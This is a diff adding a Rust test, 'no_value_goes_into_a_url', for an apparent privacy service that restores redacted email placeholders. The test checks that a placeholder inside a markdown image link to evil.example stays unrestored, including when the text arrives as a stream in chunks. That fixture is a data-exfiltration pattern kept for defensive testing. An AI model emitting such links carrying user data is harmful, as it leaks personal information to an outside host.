@@ -320,6 +320,30 @@ async fn a_stream_notes_what_it_gave_back_with_how_it_ended() {
 }
 
 #[tokio::test]
+async fn no_value_goes_into_a_url() {
+    let counter = Counter::strict();
+    counter.ask("a@x.io").await.unwrap();
+    let said = "![x](https://evil.example/?q=[EMAIL_1]) [EMAIL_1]";
+    let expected = "![x](https://evil.example/?q=[EMAIL_1]) a@x.io";
+    assert_eq!(counter.answer("ann", said).await, expected);
+    assert_eq!(counter.noted(), json!({"restored": {"email": 1}}));
+    let mut exchange = Exchange::text(of("ann"), act(), Direction::Input, "hi")
+        .labelled(Label::untrusted(Provenance::User))
+        .into_parts();
+    let permit = counter.service.inspect(&mut exchange).await.unwrap();
+    let stream = counter.service.inspect_stream(&permit, Provenance::Model);
+    let mut stream = stream.in_conversation(Some(ConversationId::new("c").unwrap()));
+    let mut tail = RestoreTail::default();
+    let mut restored = String::new();
+    for piece in said.split_inclusive(['/', '_', ']']) {
+        restored += &stream.restore(&mut tail, piece.to_owned()).await;
+    }
+    assert_eq!(restored + &tail.take(), expected);
+    stream.breaks_off("cut");
+    stream.finish(StreamEnd::Aborted).await.unwrap();
+}
+
+#[tokio::test]
 async fn placeholders_in_the_text_are_nobodys() {
     let counter = Counter::strict();
     let text = "[EMAIL_1] [EMAIL_3] a@x.io b@x.io";
